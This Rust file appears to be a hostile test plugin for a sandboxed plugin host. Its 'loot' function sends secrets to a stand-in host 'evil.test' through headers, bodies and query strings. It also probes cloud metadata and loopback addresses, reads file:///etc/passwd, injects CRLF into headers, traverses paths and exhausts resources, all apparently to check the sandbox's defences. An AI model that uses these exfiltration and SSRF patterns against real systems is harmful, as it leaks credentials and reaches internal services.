//! The attempts, by the value of `mode`. Each answers what it got to see.

use std::hint::black_box;

use crate::bursar::plugin::signing::{self, DigestAlgorithm, SignatureAlgorithm, Source};
use crate::bursar::plugin::types::Part;
use crate::bursar::plugin::{clock, http};
use crate::request::{post, secret, text};

/// Tries it, and tells what came of it.
pub(crate) fn loot(mode: &str, seen: &str) -> String {
    let api = "https://evil.test/api/echo";
    let got = match mode {
        // As declared: the echo is what must come back blotted out.
        "echo-header" => post(api).header("authorization", vec![text("Bearer "), secret("/token")]).send(),
        "echo-basic" => {
            post(api).header("authorization", vec![Part::Basic(("me".to_owned(), "/token".to_owned()))]).send()
        }
        "echo-json" => {
            let body = vec![text("{\"secret\":\""), Part::JsonEscaped("/form".to_owned()), text("\"}")];
            post(api).body("application/json", body).send()
        }
        "echo-form" => {
            let body = vec![text("secret="), Part::FormEncoded("/form".to_owned())];
            post(api).body("application/x-www-form-urlencoded", body).send()
        }
        "gzip" => {
            post("https://evil.test/api/gzip").header("authorization", vec![secret("/token")]).send()
        }
        "redirect" => {
            let first = post("https://evil.test/api/redirect").header("authorization", vec![secret("/token")]).send();
            let second = post("https://169.254.169.254/latest/meta-data/").send();
            let third = post("http://169.254.169.254/latest/meta-data/").send();
            format!("{first} {second} {third}")
        }
        // Anywhere else.
        "other-header" => post(api).header("x-other", vec![secret("/token")]).send(),
        "two-headers" => post(api)
            .header("authorization", vec![secret("/token")])
            .header("x-other", vec![Part::Basic(("me".to_owned(), "/token".to_owned()))])
            .send(),
        "query" => post(api).query("token", vec![secret("/token")]).send(),
        "body" => post(api).body("text/plain", vec![secret("/token")]).send(),
        "other-field" => {
            let body = vec![text("{\"other\":\""), Part::JsonEscaped("/form".to_owned()), text("\"}")];
            post(api).body("application/json", body).send()
        }
        "half-field" => {
            let body = vec![text("{\"secret\":\"x"), Part::JsonEscaped("/form".to_owned()), text("\"}")];
            post(api).body("application/json", body).send()
        }
        "twice-in-body" => {
            let form = || Part::JsonEscaped("/form".to_owned());
            let body = vec![text("{\"secret\":\""), form(), text("\",\"value\":\""), form(), text("\"}")];
            post(api).body("application/json", body).send()
        }
        "raw-in-json" => {
            let body = vec![text("{\"secret\":"), secret("/form"), text("}")];
            post(api).body("application/json", body).send()
        }
        "header-name" => post(api).header("x\r\nx-other", vec![secret("/token")]).send(),
        "crlf" => post(api).header("authorization", vec![secret("/token"), text("\r\nx-other: "), secret("/token")]).send(),
        "host-header" => post(api).header("host", vec![text("other.test")]).send(),
        "length-header" => post(api).header("content-length", vec![text("0")]).body("text/plain", vec![text("x")]).send(),
        "other-method" => post(api).method("DELETE").header("authorization", vec![secret("/token")]).send(),
        "bad-method" => post(api).method("POST / HTTP/1.1\r\nx: ").send(),
        "other-path" => post("https://evil.test/elsewhere").header("authorization", vec![secret("/token")]).send(),
        "dot-path" => {
            let one = post("https://evil.test/api/../elsewhere").header("authorization", vec![secret("/token")]).send();
            let two = post("https://evil.test/api/%2e%2e/elsewhere").header("authorization", vec![secret("/token")]).send();
            format!("{one} {two}")
        }
        "other-host" => post("https://mirror.test/api/echo").header("authorization", vec![secret("/token")]).send(),
        "other-port" => post("https://evil.test:8443/api/echo").header("authorization", vec![secret("/token")]).send(),
        "undeclared-host" => post("https://other.test/api/echo").header("x-loot", vec![text(seen)]).send(),
        "suffix-host" => post("https://evil.test.other.test/api/echo").send(),
        "userinfo" => post("https://evil.test:x@other.test/api/echo").send(),
        "plain-http" => post("http://evil.test/api/echo").header("authorization", vec![secret("/token")]).send(),
        "raw-ip" => format!("{} {}", post("https://127.0.0.1/api").send(), post("https://[::1]/api").send()),
        "decimal-ip" => format!("{} {}", post("https://2130706433/").send(), post("https://0x7f.1/").send()),
        "private-name" => post("https://localhost/api/echo").send(),
        "other-scheme" => format!("{} {}", post("file:///etc/passwd").send(), post("ftp://evil.test/").send()),
        "pointer" => {
            let pointers = ["", "/", "/mode", "/token/0", "/nothing", "token", "/~0token"];
            pointers.map(|pointer| post(api).header("authorization", vec![secret(pointer)]).send()).concat()
        }
        // Keys and signatures.
        "sign-echo" => with_signature(api, "/key"),
        "sign-elsewhere" => with_signature("https://mirror.test/api/echo", "/key"),
        "sign-undeclared" => with_signature(api, "/token"),
        "key-as-text" => post(api).header("authorization", vec![secret("/key")]).send(),
        "digest" => {
            let digest = signing::digest(DigestAlgorithm::Sha1, &[secret("/token")]);
            format!("{digest:?} {:?}", digest.clone().map(|handle| post(api).header("x-d", vec![Part::Hex(handle)]).send()))
        }
        "handles" => (0..200).map(|n| post(api).header("x-h", vec![Part::Hex(n), Part::Base64(n)]).send()).collect(),
        "pem" => {
            let key = signing::load(&Source::Pem(("/token".to_owned(), String::new())));
            let signed = key.clone().and_then(|key| signing::sign(key, SignatureAlgorithm::Rs256, &[text("x")]));
            format!("{key:?} {signed:?}")
        }
        // Token endpoints.
        "token" => {
            let login = post("https://evil.test/oauth/acme/token").endpoint("login").send();
            let used = post(api).header("authorization", vec![Part::Captured("access".to_owned())]).send();
            let misused = post(api).header("x-other", vec![Part::Captured("access".to_owned())]).send();
            let never = post(api).header("authorization", vec![Part::Captured("refresh".to_owned())]).send();
            format!("{login} {used} {misused} {never}")
        }
        "token-unnamed" => post("https://evil.test/oauth/acme/token").send(),
        "token-elsewhere" => post(api).endpoint("login").send(),
        // Too much.
        "flood" => (0..1000).map(|_| post(api).send()).collect(),
        "huge-request" => post(api).body("text/plain", vec![text(&"x".repeat(2 << 20))]).send(),
        "huge-answer" => post("https://evil.test/api/huge").send(),
        "truncated" => post("https://evil.test/api/truncated").send(),
        "loop" => loop {
            black_box(0);
        },
        "loop-of-sends" => loop {
            black_box(http::send(&post(api)).is_ok());
        },
        "allocate" => {
            let mut kept = Vec::new();
            loop {
                kept.push(black_box(vec![1_u8; 1 << 20]));
            }
        }
        "recurse" => recurse(0).to_string(),
        "trap" => core::arch::wasm32::unreachable(),
        "panic" => panic!("{seen}"),
        "pure" => {
            let sent = post(api).header("authorization", vec![secret("/token")]).send();
            let key = signing::load(&Source::Secret((String::new(), "/key".to_owned())));
            return format!("{sent} {key:?} {:?}", clock::now());
        }
        _ => String::new(),
    };
    format!("{seen} {got}")
}

fn with_signature(url: &str, pointer: &str) -> String {
    let key = match signing::load(&Source::Secret(("AWS4".to_owned(), pointer.to_owned()))) {
        Ok(key) => key,
        Err(error) => return format!("{error:?}"),
    };
    let derived = signing::derive_hmac_sha256(key, &[text("20261125")]).unwrap_or(key);
    match signing::hmac_sha256(derived, &[text("message")]) {
        Ok(mac) => post(url).header("authorization", vec![text("MAC "), Part::Hex(mac)]).send(),
        Err(error) => format!("{error:?}"),
    }
}

fn recurse(depth: u64) -> u64 {
    let frame = black_box([depth; 64]);
    if frame[1] == u64::MAX { 0 } else { recurse(depth + 1) + frame[0] }
}
